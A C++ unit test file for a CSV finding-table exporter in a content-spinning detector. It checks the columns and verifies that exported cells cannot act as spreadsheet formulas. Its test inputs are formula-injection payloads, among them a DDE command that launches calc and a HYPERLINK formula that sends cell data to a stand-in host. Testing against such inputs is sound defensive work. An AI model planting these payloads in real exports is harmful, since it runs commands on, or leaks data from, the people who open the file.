#include "engine/report/finding_table.hpp"

#include <algorithm>
#include <gtest/gtest.h>
#include <map>
#include <stdlib.h>

#include "engine/io/fields.hpp"
#include "engine/io/json_text.hpp"
#include "tests/engine/io/scratch_folder.hpp"
#include "tests/engine/report/made_up_finding.hpp"
#include "tests/files.hpp"

namespace unspin {
namespace {

/// What strangers may write to have a spreadsheet compute it.
constexpr const char* formulas[] = {"=1+1",
                                    "=HYPERLINK(\"http://a.example/?\"&A1,\"x\")",
                                    "+cmd|' /C calc'!A0",
                                    "-2+3",
                                    "@SUM(1,2)",
                                    "\t=1",
                                    "\r=1+1",
                                    " =1+1",
                                    "＝1+1",
                                    "a\";=1+1;\"",
                                    "a,=1+1",
                                    "\"\n=1+1"};

FindingLine finding_with(std::string_view text) {
  std::string json;
  append_json_string(text, json);
  return FindingLineReader().read(testing::finding_line_with("f0", json), "");
}

std::string header() {
  std::string out;
  append_finding_header(out);
  return out;
}

/// A row's cells by the names of their columns.
std::map<std::string, std::string> cells_of(const FindingLine& finding,
                                            const Review* review = nullptr) {
  std::string names = header();
  std::string row;
  append_finding_row(finding, review, row);
  EXPECT_TRUE(names.ends_with("\r\n") && row.ends_with("\r\n"));
  names.resize(names.size() - 2);
  row.resize(row.size() - 2);
  std::vector<std::string_view> columns, fields;
  std::string unquoted;
  split_fields(Layout::csv, names, columns, unquoted);
  split_fields(Layout::csv, row, fields, unquoted);
  EXPECT_EQ(columns.size(), fields.size());
  std::map<std::string, std::string> cells;
  for (std::size_t i = 0; i < std::min(columns.size(), fields.size()); ++i) {
    cells[std::string(columns[i])] = fields[i];
  }
  return cells;
}

TEST(FindingTable, HasTheColumnsThatAreDocumented) {
  EXPECT_EQ(header(),
            "label,confidence,site,page_address,page_title,page_date,original_id,original_title,"
            "original_address,page_share,page_share_before,original_share,words,passages,swaps,why,"
            "review,reason,page_id,file,place,id\r\n");
}

TEST(FindingTable, SaysWhatWasFound) {
  FindingLine finding = finding_with("text");
  finding.page.address = "https://Copies.example/7";
  finding.passages.push_back(finding.passages[0]);
  finding.passages[1].swaps = {{.from = "hive", .to = "apiary", .count = 21},
                               {.from = "text", .to = "text", .count = 4}};
  finding.passages[1].confidence = 1;
  finding.passages[1].reasons = {"first", "second"};
  const Review review = {.status = ReviewStatus::dismissed, .reason = "licensed"};
  std::map<std::string, std::string> cells = cells_of(finding, &review);
  EXPECT_EQ(cells["label"], "spun");
  EXPECT_EQ(cells["confidence"], "0.875");
  EXPECT_EQ(cells["site"], "copies.example");
  EXPECT_EQ(cells["page_share"], "0.25");
  EXPECT_EQ(cells["page_share_before"], "0.5");
  EXPECT_EQ(cells["words"], "60");
  EXPECT_EQ(cells["passages"], "2");
  EXPECT_EQ(cells["swaps"], "hive → apiary ×21; text → text ×7");
  EXPECT_EQ(cells["why"], "first; second") << "of the surest passage";
  EXPECT_EQ(cells["review"], "dismissed");
  EXPECT_EQ(cells["reason"], "licensed");
  EXPECT_EQ(cells["place"], "line 12");
  EXPECT_EQ(cells["id"], "f0");
  finding.page.line = 0;
  finding.page.offset = 4'096;
  cells = cells_of(finding);
  EXPECT_EQ(cells["place"], "byte 4096");
  EXPECT_EQ(cells["review"], "");
}

TEST(FindingTable, NoTextIsAFormulaOrLeavesItsCell) {
  for (const std::string text : formulas) {
    const Review review = {.status = ReviewStatus::confirmed, .reason = text};
    for (const auto& [column, cell] : cells_of(finding_with(text), &review)) {
      for (const char* sign : {"=", "+", "-", "@", "\t", "\r", "\n", " ", "＝", "＋", "－", "＠"}) {
        EXPECT_FALSE(cell.starts_with(sign)) << column << ": " << cell;
      }
    }
  }
}

TEST(FindingTable, OpensInASpreadsheetWithoutFormulas) {
  // That it runs, not that it is there: its script may be installed without it.
  if (std::system("soffice --version >/dev/null 2>&1") != 0) {
    ASSERT_EQ(std::getenv("UNSPIN_NEEDS_ALL"), nullptr) << "LibreOffice Calc: ./dev programs";
    GTEST_SKIP() << "LibreOffice Calc does not run here (./dev programs)";
  }
  const testing::ScratchFolder folder;
  std::string table = header();
  for (const std::string text : formulas) {
    const Review review = {.status = ReviewStatus::confirmed, .reason = text};
    append_finding_row(finding_with(text), &review, table);
  }
  const std::string file = folder.put("findings.csv", table);
  const std::string open = "soffice -env:UserInstallation=file://" + folder.path("profile") +
                           " --headless --convert-to fods --outdir " + folder.path("out") + " " +
                           file + " >/dev/null 2>&1";
  ASSERT_EQ(std::system(open.c_str()), 0);
  const std::string sheet = testing::read_file(folder.path("out/findings.fods"));
  EXPECT_NE(sheet.find("cmd|"), sheet.npos) << "the rows are there";
  EXPECT_NE(sheet.find("office:value=\"0.875\""), sheet.npos) << "numbers are numbers";
  EXPECT_EQ(sheet.find("table:formula"), sheet.npos);
}

}  // namespace
}  // namespace unspin
